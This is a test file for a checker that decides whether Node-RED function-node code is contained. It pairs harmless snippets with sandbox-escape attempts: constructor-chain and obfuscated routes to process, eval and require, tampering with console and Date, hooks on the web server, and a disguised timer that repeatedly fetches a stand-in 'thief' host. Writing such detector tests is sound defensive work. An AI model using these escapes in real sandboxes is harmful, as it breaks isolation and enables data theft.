import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { endsWithItsNode } from './closable-code.ts';

/** What people write in function nodes. */
const harmless = [
  'return msg;',
  'msg.payload = msg.payload.map((x) => x * 2);\nreturn msg;',
  "if (msg.req.query.id !== '7') return null;\nmsg.topic = msg.req.headers['x-topic'];\nreturn msg;",
  "const { payload, topic = 'none' } = msg;\nnode.warn(`${topic}: ${payload}`);\nreturn [msg, null];",
  "const parts = msg.payload.split(';');\nfor (let i = 0; i < parts.length; i += 1) node.send({ ...msg, payload: parts[i] });",
  'const last = msg.payload[msg.payload.length - 1];\nreturn { payload: last };',
  "let count = context.get('count') || 0;\ncount += 1;\ncontext.set('count', count);\nreturn count > 3 ? msg : null;",
  "flow.set(['a', 'b'], [1, 2]);\nconst limit = global.get('limits.high') || 10;\nif (msg.payload > limit) return msg;",
  "const units = { temp: '°C', wet: '%' };\nmsg.payload += units[msg.topic];\nreturn msg;",
  'const copy = RED.util.cloneMessage(msg);\ncopy.payload = Number(msg.payload);\nnode.send([copy, msg]);\nnode.done();',
  'const sums = {};\nfor (const { name, value } of msg.payload) sums[name] = value;\nmsg.payload = sums;\nreturn msg;',
  'try { msg.payload = JSON.parse(msg.payload); } catch (e) { node.error(e.message, msg); return; }\nreturn msg;',
  "const at = new Date(msg.payload.at);\nmsg.payload = Buffer.from(at.toISOString(), 'utf8').toString('base64');\nreturn msg;",
  "setInterval(() => { node.send({ payload: env.get('NAME') }); }, 1000);",
  "node.on('close', () => { node.status({}); });",
  'function twice(x) { return 2 * x; }\nmsg.payload = twice(msg.payload);\nreturn msg;',
  "msg.payload = msg.payload.filter(Boolean).map(String).join(',');\nreturn msg;",
  'const text = JSON.stringify(msg);\nreturn { payload: text };',
];

const fetches = "F('https://thief.example'), 2000);";

/** Ways out of the sandbox, plain and disguised, and things that are not followed to their end. */
const leading = [
  // Waiting.
  'while (true) { await next(); }',
  'const go = async () => {}; go();',
  'next().then(again);',
  'new Promise((done) => setTimeout(done, 9));',
  // Plain ways out.
  "this.constructor.constructor('return process')();",
  "eval('1');",
  "require('fs');",
  "fetch('https://thief.example');",
  "import('fs');",
  'process.exit();',
  'globalThis.x = 1;',
  // Disguised ones: no word of what they reach stands in the code.
  `const k = ['con', 'structor'].join('');\nconst G = msg[k][k];\nG('return setIn' + 'terval')()(() => ${fetches}`,
  "Buffer['const' + 'ructor']('return 1')();",
  "const { ['const' + 'ructor']: F } = Buffer; F('return 1')();",
  'const { constructor: F } = Buffer;',
  "Buffer['constructor'];",
  'Buffer[`constructor`];',
  "Reflect.get(Buffer, atob('Y29uc3RydWN0b3I='));",
  '(\\u0065val)("1");',
  'msg.\\u0063onstructor;',
  'for (const k in msg) msg[k](1);',
  "RED.util.getObjectProperty(msg, 'a' + 'b');",
  "RED['util'].getMessageProperty(msg, 'constructor');",
  'const r = RED; r.util.cloneMessage(msg);',
  "flow.get('x.constructor.constructor');",
  'flow.get(msg.topic);',
  'const f = flow; f.get(msg.topic);',
  'context.flow.get(\'x["constructor"]\');',
  'Object.getOwnPropertyDescriptors(msg.f);',
  'Error.prepareStackTrace = (e, frames) => frames;',
  'const t = { ...msg }; t[msg.topic].x();',
  'const table = { a: 1 }; table[msg.a][msg.b]();',
  'let i = 0; i = msg.payload; msg[i]();',
  'const pick = (i) => msg[i];',
  // What others see: it would be called when the tab is closed already.
  'console.log = () => {};',
  'Date.now = () => 0;',
  'Object.assign(console, { log() {} });',
  'const c = console; c.log = () => {};',
  'delete Buffer.from;',
  '[Date.now] = [() => 0];',
  // The web server, by the request or the answer of a caller.
  "msg.res.on('close', again);",
  'msg.req.app.use(again);',
  'const { req } = msg;',
  'const request = msg.req;',
  'Object.values(msg).forEach((one) => one.app);',
  'const all = [msg]; Object.values(all[0]);',
  'const { payload, ...rest } = msg; Object.values(rest);',
  'const give = () => msg; Object.values(give());',
  'const copy = { ...msg }; Object.values(copy);',
  'const copy = RED.util.cloneMessage(msg); Object.values(copy);',
  'JSON.stringify(msg, (k, v) => v.app);',
  'arguments[0];',
  '`${msg}${tag`x`}`;',
  // What the global context holds may be any function.
  "global.get('request')(u, again);",
  "const http = global.get('http'); http.get(u);",
  "const a = global.get('http'); const b = a; b.get(u);",
  "const run = global.get('run'); msg.payload.forEach(run);",
  "const x = global.get('a.constructor');",
  "context.global.get('http').get(u);",
  "global.set('run', () => {});",
  // Neither read nor followed.
  'return msg; })(); again(); (function () {',
  'class A { static { again(); } }',
  'with (msg) { payload(); }',
  'const o = { get x() { return 1; } };',
  'not JavaScript',
  `msg.payload = ${'('.repeat(20_000)}1${')'.repeat(20_000)};`,
  `// ${'x'.repeat(100_001)}`,
];

describe('code of a function node', () => {
  for (const code of harmless) {
    it(`is seen to end with its node: ${code.slice(0, 60)}`, () => {
      assert.equal(endsWithItsNode([code]), true);
    });
  }
  for (const code of leading) {
    it(`is not taken to end with its node: ${code.slice(0, 60)}`, () => {
      assert.equal(endsWithItsNode([code]), false);
    });
  }

  it('is judged together with what its other pieces leave in the sandbox', () => {
    const pieces = ['if (!msg) i = 0;\nreturn msg[i];', 'i = msg.topic;'];
    assert.equal(endsWithItsNode(pieces.slice(0, 1)), true);
    assert.equal(endsWithItsNode(pieces), false);
  });
});
